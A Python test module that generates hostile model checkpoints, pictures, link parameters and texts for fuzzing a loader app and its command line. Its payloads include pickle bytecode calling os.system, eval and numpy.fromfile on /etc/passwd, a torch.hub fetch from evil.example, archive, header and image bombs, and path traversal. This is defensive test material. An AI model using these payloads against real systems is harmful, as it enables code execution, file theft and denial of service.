"""Files made to do harm, and seeded makers of many more: what the app and the command line must survive."""

from __future__ import annotations

import base64
import io
import json
import pickle
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import torch
from PIL import Image
from safetensors.torch import save

Files = Iterator[tuple[str, bytes]]


def saved(value: object, **options: object) -> bytes:
    """Return what torch.save writes."""
    out = io.BytesIO()
    torch.save(value, out, **options)
    return out.getvalue()


def archive(pickled: bytes, **records: bytes) -> bytes:
    """Return a checkpoint archive with this pickle and these storages."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("net/data.pkl", pickled)
        for name, content in records.items():
            file.writestr(f"net/data/{name}", content)
        file.writestr("net/version", b"3\n")
    return out.getvalue()


def text(value: str) -> bytes:
    """Return the operations that push a text."""
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(name: str, arguments: bytes) -> bytes:
    """Return the operations that call a global with the tuple that these operations push."""
    module, _, function = name.rpartition(".")
    return b"c" + f"{module}\n{function}\n".encode() + arguments + b"R"


def number(value: int) -> bytes:
    """Return the operations that push a whole number."""
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def row(*items: bytes) -> bytes:
    """Return the operations that push a tuple."""
    return b"(" + b"".join(items) + b"t"


def storage(key: str = "0", numel: int = 4, kind: str = "FloatStorage", name: str = "storage") -> bytes:
    """Return the operations that push a storage."""
    return row(text(name), f"ctorch\n{kind}\n".encode(), text(key), text("cpu"), number(numel)) + b"Q"


def tensor(size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, stored: bytes = b"") -> bytes:
    """Return the operations that push a tensor."""
    hooks = call("collections.OrderedDict", b")")
    sizes = [row(*map(number, part)) for part in (size, stride)]
    return call("torch._utils._rebuild_tensor_v2", row(stored or storage(), number(offset), *sizes, b"\x89", hooks))


def state(*values: bytes) -> bytes:
    """Return a whole pickle: a dict of these values under w0, w1, ..."""
    return b"\x80\x02}(" + b"".join(text(f"w{i}") + value for i, value in enumerate(values)) + b"u."


FOUR = struct.pack("<4f", 1, 2, 3, 4)


def safetensors(header: object, content: bytes = b"", length: int | None = None) -> bytes:
    """Return a safetensors file with this header."""
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + content


def _many_names() -> bytes:
    """15,000 names for one large storage: gigabytes of numbers to look through, in two megabytes."""
    one = tensor((500_000,), (1,), stored=storage("0", 500_000))
    rest = b"".join(text(f"n{i}") + b"h\x01" for i in range(15_000))
    return archive(b"\x80\x02}(" + text("w") + one + b"q\x01" + rest + b"u.", **{"0": b"\0" * 2_000_000})


def _doubled(levels: int) -> bytes:
    """A tuple of a tuple of ... each twice: 2 ** levels leaves in a few bytes, walked when it is hashed."""
    inner = b")"
    for i in range(levels):
        inner += b"q" + bytes([i]) + b"h" + bytes([i]) + b"\x86"
    return inner


def _wide_directory() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for i in range(90_000):
            file.writestr(f"net/data/{'x' * 60}{i}", b"")
    return out.getvalue()


def _lying(content: bytes, entry: bytes, size: int) -> bytes:
    """Return an archive whose table of contents claims another length of an entry."""
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(entry))
    return content[: at + 20] + struct.pack("<LL", size, size) + content[at + 28 :]


GOOD = archive(state(tensor((2, 2), (2, 1))), **{"0": FOUR})
BOMBS: dict[str, Callable[[], bytes]] = {
    "a tensor of 3 GiB": lambda: archive(state(call("torch.Tensor", row(number(30_000), number(30_000))))),
    "a storage by its length": lambda: archive(state(call("torch.FloatStorage", row(number(2**40))))),
    "a bytearray of 2 GiB": lambda: archive(state(*[call("builtins.bytearray", row(number(2**31 - 1)))] * 3)),
    "a bytearray beside weights": lambda: archive(
        state(tensor((4,), (1,)), call("__builtin__.bytearray", row(number(2**31 - 1)))), **{"0": FOUR}
    ),
    "a counter of a gigabyte": lambda: archive(
        state(call("collections.Counter", row(call("builtins.bytearray", row(number(2**30))))))
    ),
    "a counter of a text": lambda: archive(state(call("collections.Counter", row(text("x" * 1000))))),
    "nested lists": lambda: archive(b"\x80\x02" + b"]" * (20 * 2**20)),
    "nested marks": lambda: archive(b"\x80\x02" + b"(" * (20 * 2**20)),
    "nested tuples": lambda: archive(b"\x80\x02)" + b"\x85" * 2_000_000 + b"."),
    "many names for one storage": _many_names,
    "a memo far away": lambda: archive(b"\x80\x02]r\xff\xff\xff\x7f."),
    "a memo that is not there": lambda: archive(b"\x80\x02j\xff\xff\xff\x7f."),
    "doubled keys": lambda: archive(b"\x80\x02}" + _doubled(60) + b"Ns."),
    "doubled values": lambda: archive(b"\x80\x02}" + text("w") + _doubled(60) + b"s."),
    "a number of two megabytes": lambda: archive(b"\x80\x02\x8b" + struct.pack("<i", 2**21) + b"\x01" * 2**21 + b"."),
    "a number in letters": lambda: archive(b"I" + b"9" * 10**6 + b"\n."),
    "a text of 4 GiB": lambda: archive(b"\x80\x02X\xf0\xff\xff\xffabc."),
    "bytes of 8 EiB": lambda: archive(b"\x80\x04\x8e" + struct.pack("<Q", 2**63 - 1) + b"abc."),
    "a shape of 2**58 nothings": lambda: archive(state(tensor((2**58, 0), (1, 1))), **{"0": FOUR}),
    "a shape of nothing": lambda: archive(state(tensor((0,), (1,))), **{"0": FOUR}),
    "a negative shape": lambda: archive(state(tensor((-4, -4), (1, 1))), **{"0": FOUR}),
    "a negative stride": lambda: archive(state(tensor((4,), (-1,))), **{"0": FOUR}),
    "a negative offset": lambda: archive(state(tensor((4,), (1,), offset=-4)), **{"0": FOUR}),
    "a far offset": lambda: archive(state(tensor((4,), (1,), offset=2**40)), **{"0": FOUR}),
    "a far stride": lambda: archive(state(tensor((4,), (2**40,))), **{"0": FOUR}),
    "a shape with no end": lambda: archive(state(tensor((2**61, 2**61, 2**61), (1, 1, 1))), **{"0": FOUR}),
    "a hundred dimensions": lambda: archive(state(tensor((1,) * 100, (1,) * 100)), **{"0": FOUR}),
    "a storage longer than its record": lambda: archive(
        state(tensor((4000,), (1,), stored=storage("0", 4000))), **{"0": FOUR}
    ),
    "a storage that is not there": lambda: archive(state(tensor((4,), (1,), stored=storage("7"))), **{"0": FOUR}),
    "a storage outside": lambda: archive(state(tensor((4,), (1,), stored=storage("../../version"))), **{"0": FOUR}),
    "a persistent module": lambda: archive(state(storage(name="module"))),
    "os.system": lambda: archive(state(call("os.system", row(text("touch harm"))))),
    "eval": lambda: archive(state(call("builtins.eval", row(text("1+1"))))),
    "getattr": lambda: archive(state(call("builtins.getattr", row(text("a"), text("b"))))),
    "torch.load": lambda: archive(state(call("torch.load", row(text("/etc/passwd"))))),
    "torch.hub": lambda: archive(state(call("torch.hub.load_state_dict_from_url", row(text("http://evil.example"))))),
    "numpy from a file": lambda: archive(state(call("numpy.fromfile", row(text("/etc/passwd"))))),
    "a stack global": lambda: archive(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R."),
    "an instance": lambda: archive(b"(X\x04\x00\x00\x00trueios\nsystem\n."),
    "an object": lambda: archive(b"(cos\nsystem\nX\x04\x00\x00\x00trueo."),
    "an extension": lambda: archive(b"\x80\x02\x82\x01."),
    "a protocol of the future": lambda: archive(b"\x80\xff}."),
    "an endless pickle": lambda: archive(b"\x80\x02}"),
    "a compressed archive": lambda: _deflated(),
    "a record that claims more": lambda: _lying(GOOD, b"net/data/0", 2**31),
    "a table of contents without end": _wide_directory,
    "two bombs in one": lambda: GOOD + archive(state(call("os.system", row(text("true"))))),
    "a legacy bomb": lambda: _legacy(state(tensor((2**30,), (1,), stored=_view("0", 2**30))), ["0"], b""),
    "a legacy stream without numbers": lambda: _legacy(state(tensor((4,), (1,), stored=_view("0", 4))), ["0"], b""),
    "a tar": lambda: b"storages" + b"\0" * 249 + b"ustar\x0000" + b"\0" * 5000,
    "a name of dots": lambda: save({"a" + "." * 40_000: torch.zeros(2)}),
    "a name of dots in a pickle": lambda: saved({"a" + "." * 40_000: torch.zeros(2)}),
    "many long names": lambda: save({f"{'a.' * 140}{i}": torch.zeros(1) for i in range(3000)}),
    "20 million classes": lambda: safetensors({"fc.weight": _described([20_000_000, 0], 0, 0)}),
    "2**58 classes": lambda: safetensors({"fc.weight": _described([2**58, 0], 0, 0)}),
    "200,000 classes": lambda: save({"fc.weight": torch.zeros(200_000, 1)}),
    "a header of 8 EiB": lambda: safetensors({}, length=2**63),
    "a header of 100 MB": lambda: safetensors(b"{" + b" " * 90_000_000 + b"}"),
    "a deep header": lambda: safetensors(b'{"a":' * 100_000),
    "a header that is a list": lambda: safetensors([1]),
    "numbers beyond the end": lambda: safetensors({"w": _described([2**40], 0, 2**42)}),
    "numbers one over another": lambda: safetensors({f"w{i}": _described([2], 0, 8) for i in range(50)}, b"\0" * 8),
    "nothing but names": lambda: safetensors({f"w{i}": _described([0], 0, 0) for i in range(30_000)}),
}


def _described(shape: list[int], begin: int, end: int) -> dict[str, object]:
    return {"dtype": "F32", "shape": shape, "data_offsets": [begin, end]}


def _deflated() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("net/data.pkl", state(tensor((2**28,), (1,), stored=storage("0", 2**28))))
        with file.open("net/data/0", "w", force_zip64=True) as record:
            for _ in range(64):
                record.write(b"\0" * 2**22)
    return out.getvalue()


def _view(key: str, numel: int) -> bytes:
    return row(text("storage"), b"ctorch\nFloatStorage\n", text(key), text("cpu"), number(numel), b"N") + b"Q"


def _legacy(pickled: bytes, keys: list[str], numbers: bytes) -> bytes:
    head = saved({}, _use_new_zipfile_serialization=False)
    begin = head[: head.rindex(b"\x80\x02}q\x00.")]
    return begin + pickled + pickle.dumps(keys, 2) + numbers


def mutated(content: bytes, rng: random.Random) -> bytes:
    """Return a file with some of its bytes changed, moved, doubled, cut out or put in."""
    raw = bytearray(content)
    for _ in range(rng.choice((1, 1, 2, 4, 16))):
        at, length = rng.randrange(len(raw) + 1), rng.choice((1, 1, 2, 4, 8, 64))
        match rng.randrange(6):
            case 0 if at < len(raw):
                raw[at] ^= 1 << rng.randrange(8)
            case 1:
                raw[at : at + length] = rng.randbytes(length)
            case 2:
                del raw[at : at + length]
            case 3:
                raw[at:at] = raw[rng.randrange(len(raw) + 1) :][:length]
            case 4:
                raw[at : at + length] = rng.choice((b"\xff", b"\0", b"\x7f\xff\xff\xff", b"\xff\xff\xff\x7f")) * 2
            case _:
                raw = raw[: max(1, at)]
        raw = raw or bytearray(b"\0")
    return bytes(raw)


OPERATIONS = bytes(set(b"()0(1.2IJKLMNRSTUVXQPabcdeghijlopqrstu}]" + bytes(range(0x80, 0x99))) - {0x84})
NAMES = (
    "torch._utils._rebuild_tensor_v2",
    "torch._utils._rebuild_tensor_v3",
    "torch._utils._rebuild_parameter",
    "torch._utils._rebuild_qtensor",
    "torch._utils._rebuild_sparse_tensor",
    "torch._tensor._rebuild_from_type_v2",
    "collections.OrderedDict",
    "collections.Counter",
    "collections.defaultdict",
    "torch.FloatStorage",
    "torch.Tensor",
    "torch.Size",
    "torch.device",
    "torch.float32",
    "builtins.bytearray",
    "builtins.set",
    "_codecs.encode",
    "os.system",
    "argparse.Namespace",
)


def random_pickle(rng: random.Random) -> bytes:
    """Return a pickle of random operations, most of them with arguments of the right form."""
    parts = [b"\x80\x02"]
    pieces: tuple[Callable[[], bytes], ...] = (
        lambda: bytes([rng.choice(OPERATIONS)]),
        lambda: bytes([rng.choice(b"()}]tuRsaeQb\x81\x85\x86\x87N\x88\x89")]),
        lambda: text(rng.choice(("storage", "0", "cpu", "w", "state_dict", "a.b"))),
        lambda: number(rng.choice((0, 1, 2, 4, -1, 2**31 - 1, 2**40, 2**62, 2**63))),
        lambda: b"c%b\n%b\n" % tuple(map(str.encode, rng.choice(NAMES).rsplit(".", 1))),
        lambda: tensor(*(tuple(rng.choice((0, 1, 2, 4, 2**33)) for _ in range(2)) for _ in range(2))),
        lambda: b"q" + bytes([rng.randrange(4)]),
        lambda: b"h" + bytes([rng.randrange(4)]),
    )
    parts += [rng.choice(pieces)() for _ in range(rng.randrange(1, 40))]
    return b"".join(parts) + rng.choice((b".", b"s.", b"u.", b""))


def checkpoints(count: int, seed: int) -> Files:
    """Make hostile checkpoints: (file name, content)."""
    rng = random.Random(seed)
    weights = {"a.weight": torch.ones(3, 4), "b": torch.arange(6), "n": torch.tensor(2)}
    new, old = saved({"state_dict": weights, "epoch": 3}), saved(weights, _use_new_zipfile_serialization=False)
    pickled = zipfile.ZipFile(io.BytesIO(new)).read("archive/data.pkl")
    table = json.dumps({"w": _described([2, 2], 0, 16), "v": _described([4], 16, 32), "__metadata__": {"a": "b"}})
    for i in range(count):
        match i % 6:
            case 0:
                yield "a.pt", mutated(new, rng)
            case 1:
                yield "a.pt", archive(mutated(pickled, rng), **{"0": b"\0" * 48, "1": b"\0" * 48, "2": b"\0" * 8})
            case 2:
                yield "a.pt", archive(random_pickle(rng), **{"0": FOUR})
            case 3:
                yield "a.pth", mutated(old, rng)
            case 4:
                yield "a.safetensors", safetensors(mutated(table.encode(), rng), b"\1" * 32)
            case _:
                yield "a.safetensors", mutated(save(weights), rng)


KINDS = ("PNG", "JPEG", "GIF", "BMP", "TIFF", "WEBP", "PPM")


def pictures(count: int, seed: int) -> Files:
    """Make hostile pictures: (file name, content)."""
    rng = random.Random(seed)
    whole = []
    for kind in KINDS:
        for mode in ("RGB", "L") if kind in ("JPEG", "WEBP", "PPM") else ("RGB", "L", "P", "1"):
            out = io.BytesIO()
            Image.new("RGB", (40, 24), (200, 40, 9)).convert(mode).save(out, kind)
            whole.append((kind, out.getvalue()))
    for _ in range(count):
        kind, content = rng.choice(whole)
        yield f"a.{kind.lower()}", mutated(content, rng)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, lines: bytes = b"") -> bytes:
    """Return a PNG with this header and these chunks."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    body = [_chunk(b"IHDR", head), *chunks, _chunk(b"IDAT", zlib.compress(lines, 9)), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


PICTURE_BOMBS: dict[str, Callable[[], bytes]] = {
    "60,000 pixels a side": lambda: png(60_000, 60_000),
    "2**31 pixels a side": lambda: png(2**31 - 1, 2**31 - 1),
    "no pixels": lambda: png(0, 0),
    "a text of a gigabyte": lambda: png(
        8, 8, _chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 2**28, 9)), lines=b"\0" * 200
    ),
    "a profile of 256 MiB": lambda: png(
        8, 8, _chunk(b"iCCP", b"a\0\0" + zlib.compress(b"\0" * 2**28, 9)), lines=b"\0" * 200
    ),
    "too little": lambda: png(4000, 4000, lines=b"\0" * 100),
    "postscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n%%EndComments\n(x) show\n%%EOF\n",
    "a postscript preview": lambda: b"\xc5\xd0\xd3\xc6" + struct.pack("<7I", 32, 99, 0, 0, 0, 0, 0) + b"%!PS-Adobe" * 9,
    "a gif of 65,535 a side": lambda: b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0) + b"," + b"\0" * 40,
    "a tiff of tags": lambda: b"II*\0\x08\0\0\0\xff\xff" + b"\x00\x01\x04\x00\xff\xff\xff\x7f\0\0\0\0" * 65535,
    "a tiff that points at itself": lambda: b"II*\0\x08\0\0\0\0\0\x08\0\0\0",
    "a plain ppm": lambda: b"P3 9999 9999 255 " + b"1 " * 100,
    "a ppm of 10**30": lambda: b"P6 " + b"9" * 30 + b" 1 255\n",
    "a windows icon": lambda: b"\0\0\1\0\1\0" + b"\0" * 16 + b"\x89PNG",
    "a pdf": lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj",
    "a drawing": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example"/></svg>',
    "a window metafile": lambda: b"\xd7\xcd\xc6\x9a\0\0" + b"\0" * 40,
    "a fits file": lambda: b"SIMPLE  =                    T" + b" " * 2880,
    "jpeg 2000": lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 40,
}


def random_value(rng: random.Random, depth: int = 0) -> object:
    """Return a value of JSON, of any kind."""
    scalars = (None, True, 0, -1, 2**70, 1e308, -0.5, "", "x", "upload:0:a", "/proc", "\0", "\u202e", "a" * 5000)
    if depth > 2 or rng.random() < 0.7:
        return rng.choice((*scalars, rng.random() * 100, rng.randrange(300), float("nan"), float("inf")))
    if rng.random() < 0.5:
        return [random_value(rng, depth + 1) for _ in range(rng.randrange(4))]
    return {str(random_value(rng, 9))[:40]: random_value(rng, depth + 1) for _ in range(rng.randrange(4))}


def links(count: int, seed: int, fields: tuple[str, ...]) -> Iterator[str]:
    """Make hostile values of a link's parameter."""
    rng = random.Random(seed)
    for _ in range(count):
        raw = {rng.choice((*fields, "show", "pins", "sites", "x")): random_value(rng) for _ in range(rng.randrange(9))}
        packed = zlib.compress(json.dumps(raw).encode())
        if rng.random() < 0.3:
            packed = mutated(packed, rng)
        parameter = base64.urlsafe_b64encode(packed).rstrip(b"=").decode()
        yield parameter if rng.random() < 0.8 else mutated(parameter.encode(), rng).decode("latin-1")


LETTERS = "ab:/.,=;~\\\0\n\t -_%*?\"'0123456789e+\u00e9\u202e\ud800"
WORDS = ("max", "percentile", "mse", "clip", "uniform", "gaussian", "embedded", "torchvision:", "folder:", "nan")


def texts(count: int, seed: int) -> Iterator[str]:
    """Make hostile texts for options, names and paths."""
    rng = random.Random(seed)
    for _ in range(count):
        length = rng.choice((0, 1, 3, 8, 30, 300, 5000))
        word = rng.choice((*WORDS, "", ""))
        yield word + "".join(rng.choice(LETTERS) for _ in range(length))
